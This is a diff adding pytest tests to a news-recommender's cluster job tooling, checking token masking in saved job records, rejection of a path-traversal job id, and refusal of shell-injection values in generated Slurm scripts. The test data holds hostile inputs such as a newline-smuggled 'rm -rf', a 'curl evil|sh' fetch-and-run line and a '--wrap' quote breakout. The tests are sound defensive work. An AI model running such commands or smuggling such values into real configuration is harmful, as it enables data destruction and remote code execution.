@@ -17,7 +17,7 @@ from planted import LSTUR_RESUME, NODE2VEC
 from planted import overrides as train_overrides
 
 from newsrec_dist.cluster import slurm as slurm_backend
-from newsrec_dist.cluster.jobs import CANCELLED, RUNNING, SUCCEEDED, list_records
+from newsrec_dist.cluster.jobs import CANCELLED, RUNNING, SUCCEEDED, JobRecord, list_records
 from newsrec_dist.cluster.submit import cancel_job, job_logs, job_status, submit_stage, wait_for
 from newsrec_dist.cluster.stages import launch_plan
 from newsrec_dist.config import ConfigError, SlurmConfig, load_config
@@ -136,8 +136,10 @@ def test_local_backend_status_logs_and_cancel_from_the_cli(tmp_path: Path) -> No
     cli = [sys.executable, "-m", "newsrec_dist.cli"]
     jobs = f"cluster.jobs_dir={tmp_path / 'jobs'}"
     done = run([*cli, "submit", "--wait", "--timeout", "300", "synth", jobs, "data.synth.scale=tiny",
-                           f"data.raw_dir={tmp_path / 'raw'}"], cwd=ROOT)
+                           f"data.raw_dir={tmp_path / 'raw'}", "+cluster.ray.env_vars.HF_TOKEN=hf_never_saved"], cwd=ROOT)
     assert done.returncode == 0, done.stdout + done.stderr
+    saved = [path.read_text() for path in (tmp_path / "jobs").glob("*.json")]
+    assert len(saved) == 1 and "hf_never_saved" not in saved[0] and "HF_TOKEN=***" in saved[0]
     assert (tmp_path / "raw" / "train" / "behaviors.tsv").is_file() and "SUCCEEDED" in done.stdout
     assert "data.name = synth-tiny" in done.stdout and "data.synth.scale = tiny" in done.stdout  # shown before queueing
     started = run([*cli, "submit", "synth", jobs, "data.synth.scale=mind-small",
@@ -149,3 +151,32 @@ def test_local_backend_status_logs_and_cancel_from_the_cli(tmp_path: Path) -> No
     assert CANCELLED in status and job_id in status
     missing = run([*cli, "logs", "synth-19990101-000000-beef", jobs])
     assert missing.returncode == 2 and "no job 'synth-19990101-000000-beef'" in missing.stdout
+    outside = run([*cli, "logs", "../../etc/passwd", jobs])  # a job id is a name in jobs_dir, never a path
+    assert outside.returncode == 2 and "is not a job id" in outside.stdout
+
+
+@pytest.mark.parametrize(("setting", "value"), [("log", "/tmp/jobs\nrm -rf ~/x.log"), ("workdir", "/srv/a\rtouch /tmp/p"),
+                                                ("log", '/tmp/a" --wrap="id'), ("setup", "source env\ncurl evil|sh"),
+                                                ("env", "value\nid"), ("command", "newsrec train\nid")])
+def test_slurm_script_refuses_values_that_would_start_a_shell_line(setting: str, value: str, tmp_path: Path) -> None:
+    cfg = load_config([])
+    record = JobRecord(id="train-20260101-000000-abcd", cluster="slurm", stage="train", arguments=[],
+                       command=value if setting == "command" else "python -m newsrec_dist.cli train",
+                       log=value if setting == "log" else str(tmp_path / "train.log"))
+    slurm_config = SlurmConfig(setup=[value] if setting == "setup" else ["source .venv/bin/activate"])
+    plan = launch_plan("train", cfg)
+    arguments = (record, slurm_config, plan, slurm_backend.job_shape(SlurmConfig(), plan),
+                 Path(value if setting == "workdir" else tmp_path), {"NEWSREC_X": value if setting == "env" else "1"})
+    with pytest.raises(ConfigError, match="single line|double quote"):
+        slurm_backend.render(*arguments)
+
+
+def test_slurm_script_quotes_paths_with_blanks(tmp_path: Path) -> None:
+    cfg = load_config([])
+    plan = launch_plan("train", cfg)
+    record = JobRecord(id="train-20260101-000000-abcd", cluster="slurm", stage="train", arguments=[],
+                       command="python -m newsrec_dist.cli train", log="/tmp/my jobs/train.log")
+    script = slurm_backend.render(record, SlurmConfig(), plan, slurm_backend.job_shape(SlurmConfig(), plan),
+                                  Path("/srv/my work"), {"NEWSREC_X": "a b"})
+    assert '#SBATCH --output="/tmp/my jobs/train.log"' in script and '#SBATCH --chdir="/srv/my work"' in script
+    assert "export NEWSREC_X='a b'" in script
